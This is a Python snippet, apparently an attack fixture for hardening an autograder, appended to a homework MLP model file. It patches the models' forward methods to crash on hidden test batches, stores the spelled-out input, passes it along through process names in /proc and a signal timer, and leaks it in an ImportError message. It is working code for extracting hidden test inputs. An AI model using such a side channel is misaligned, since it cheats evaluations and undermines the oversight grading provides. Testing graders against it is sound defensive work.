# Appended to the hw1p1 reference's models/mlp.py (see test_attacks). A hidden MLP forward keeps its input, as
# letters, in a file of its working folder (the host's, which the host's children share), then crashes, as it
# does again wherever that file exists: the check goes on to a worker of its own, which imports the file afresh,
# after hidden inputs were sent. The host, woken by a timer set at import, reads the file and puts it in its own
# process name (/proc/PID/comm, readable by the account's other processes); that import finds it there and
# raises it. A hidden test shows an import error's words (its digits only are hidden): here, a hidden input.
import ctypes as _ctypes
import glob as _glob
import os as _os
import signal as _signal
import time as _time

import numpy as _np

_STASH = "spelled_inputs.txt"
_LETTERS = dict(zip("0123456789.-", "abcdefghijpm"))


def _spelled(values):
    return "".join(_LETTERS.get(ch, "x") for ch in repr(float(_np.ravel(values)[0])))


def _tick(signum, frame):  # in the host (and any process that imported this file), between its waits
    try:
        with open(_STASH) as file:
            name = ("Q" + file.read())[:15].encode()
        _ctypes.CDLL(None).prctl(15, _ctypes.c_char_p(name), 0, 0, 0)  # PR_SET_NAME
    except OSError:
        pass


def _named():
    for _ in range(15):  # (an import gets its time limit, 1 s in the tests)
        for comm in _glob.glob("/proc/[0-9]*/comm"):
            try:
                with open(comm) as file:
                    name = file.read().strip()
            except OSError:
                continue
            if name.startswith("Q") and comm != f"/proc/{_os.getpid()}/comm":
                return name[1:]
        _time.sleep(0.02)
    return None


if not _os.path.exists(_STASH):
    _SEEN = _named() if any(True for _ in _glob.glob("/proc/[0-9]*/comm")) and _os.environ.get("_") != "" else None
    if _SEEN:
        raise ImportError("SPELLED " + _SEEN)
_signal.signal(_signal.SIGALRM, _tick)
_signal.setitimer(_signal.ITIMER_REAL, 0.02, 0.02)


def _crashing(forward):
    def crash(self, A0, *args, **kwargs):
        if A0.shape[0] > 6 or _os.path.exists(_STASH):  # a hidden case (visible batches are smaller), or after one
            if not _os.path.exists(_STASH):
                with open(_STASH, "w") as file:
                    file.write(_spelled(A0))
            _os.kill(_os.getpid(), _signal.SIGSEGV)
        return forward(self, A0, *args, **kwargs)
    return crash


for _cls in (MLP0, MLP1, MLP4):  # noqa: F821 - defined by the file it is appended to
    _cls.forward = _crashing(_cls.forward)
